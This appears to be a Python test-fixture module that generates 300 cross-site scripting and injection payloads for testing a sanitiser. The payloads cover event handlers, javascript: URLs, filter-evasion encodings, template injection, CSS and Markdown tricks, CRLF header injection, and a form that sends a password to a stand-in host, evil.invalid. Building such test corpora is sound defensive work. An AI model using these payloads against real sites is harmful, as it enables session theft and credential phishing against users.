"""Three hundred hostile texts of our own making, from the kinds that are known: each calls `pwned()` if it ever runs.

Kinds: tags, events, ways out of an attribute, a textarea, a title, a script or a comment, addresses that are scripts,
SVG and MathML, templates, CSS, Markdown, entities, characters that fool filters, line ends, frames and forms.
"""

from __future__ import annotations

from itertools import product

RUN = "pwned()"
MANY = 300
HOST = "//evil.invalid"

EVENTS = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<body onload={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<details open ontoggle={0}><summary>x</summary></details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<a href=# onclick={0} autofocus tabindex=1 onfocus={0}>点我</a>",
    "<marquee onstart={0}>x</marquee>",
    "<div onpointerover={0} onmouseover={0} style='position:fixed;inset:0'>x</div>",
    "<object data=x onerror={0}></object>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<form onsubmit={0}><button autofocus>x</button></form>",
    "<iframe onload={0}></iframe>",
    "<dialog open oncancel={0} onclose={0}>x</dialog>",
    "<p onanimationstart={0} style='animation:a 1s'>x</p>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></animate></svg>",
)
SCRIPTS = (
    "<script>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<script type=module>{0}</script>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src='javascript:parent.{0}'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<base href='javascript:/a/-{0}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
)
OUT = (
    "'",
    '"',
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "</p></div>",
)
SPELLINGS = (
    "<ScRiPt>{0}</sCrIpT>",
    "<script\t>{0}</script\n>",
    "<script/x>{0}</script/x>",
    "<<script>{0}//<</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img/src=x/onerror={0}>",
    "<img src=x onerror\t=\n{0}>",
    "<img src=x onerror=&#112;wned()>",
    "<img src=x onerror=\\u0070wned()>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u02bascript\u02ba onerror={0}",
    "<script\u200b>{0}</script>",
    "\u202e<script>{0}</script>\u202c",
    "\ufeff<script>{0}</script>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<img src=x onerror={0}//" + "长" * 300,
    "<\u0000script>{0}</script>",
    "\u2028<script>{0}</script>\u2029",
    "<img src='x' onerror='{0}'",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<template><script>{0}</script></template>",
    "<svg><style><img src=x onerror={0}></style></svg>",
    "<math><mi><table><mglyph><style><img src=x onerror={0}>",
)
ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "javascript&colon;{0}",
    "javascript://%0a{0}",
    "vbscript:{0}",
    "data:text/html,<script>parent.{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
    "<a href='javascript:{0}'>点我</a>",
    "<a href=' &#14; javascript:{0}'>点我</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<button formaction='javascript:{0}' form=x>x</button>",
    "<svg><a xlink:href='javascript:{0}'><text y=9>x</text></a></svg>",
    "<area href='javascript:{0}'>",
)
TEMPLATES = (
    "[{{7*191}}]",
    "[{%print(7*191)%}]",
    "[${7*191}]",
    "[#{7*191}]",
    "[<%= 7*191 %>]",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{0.__class__}",
    "%(secret)s",
    "{{constructor.constructor('pwned()')()}}",
    "⟦hospital:phone⟧{{x}}",
    "{% raw %}<script>pwned()</script>{% endraw %}",
    "{{'<script>pwned()</script>'|safe}}",
    "[[7*191]]",
    "`${pwned()}`",
)
STYLES = (
    "<style>*{display:none}</style>",
    f"<style>@import '{HOST}/x.css'</style>",
    "<p style='background:url(javascript:pwned())'>x</p>",
    '<p style="width:expression(pwned())">x</p>',
    f"<link rel=stylesheet href={HOST}/x.css>",
    "}</style><script>pwned()</script>",
    f"<img src={HOST}/track.png>",
    f"<form action={HOST}/><input name=password></form>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}/>",
    "<div style='position:fixed;inset:0;z-index:9'>请重新登录</div>",
    "<plaintext>",
    "<!--",
    "<xmp>",
    "<textarea>",
)
MARKDOWN = (
    "[点我](javascript:pwned())",
    "![x](javascript:pwned())",
    "[x]: javascript:pwned()",
    "<javascript:pwned()>",
    f"![x]({HOST}/x.png)",
    '[x](x "onmouseover=pwned()")',
    "```<script>pwned()</script>```",
    "**<img src=x onerror=pwned()>**",
    "| <svg onload=pwned()> |",
    "> <script>pwned()</script>",
)
SCRIPT_STRINGS = (
    "';pwned();//",
    '";pwned();//',
    "\\';pwned();//",
    "</script><script>pwned()</script>",
    "'-pwned()-'",
    '"-pwned()-"',
    "`;pwned();//",
    "\u2028pwned()//",
    "1;pwned()",
    "*/pwned()/*",
)
LINES = (
    "x\r\nSet-Cookie: pwned=1",
    "x\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>",
    "x%0d%0aSet-Cookie:%20pwned=1",
    "x\u560d\u560aSet-Cookie: pwned=1",
    "x\r\nLocation: javascript:pwned()",
)


def corpus() -> list[str]:
    """All of them, in a fixed order, each once."""
    plain = [t.replace("{0}", RUN) for t in (*EVENTS, *SCRIPTS, *SPELLINGS, *ADDRESSES)]
    rest = [*TEMPLATES, *STYLES, *MARKDOWN, *SCRIPT_STRINGS, *LINES]
    out = [o + t.replace("{0}", RUN) for t, o in product((*EVENTS[:12], *SCRIPTS[:4]), OUT)]
    attributes = [
        f"{o} {event}={RUN} autofocus x={o}" for o, event in product(('"', "'"), ("onfocus", "onload", "onerror"))
    ]
    found = list(dict.fromkeys([*plain, *rest, *attributes, *out]))
    return found[:MANY]
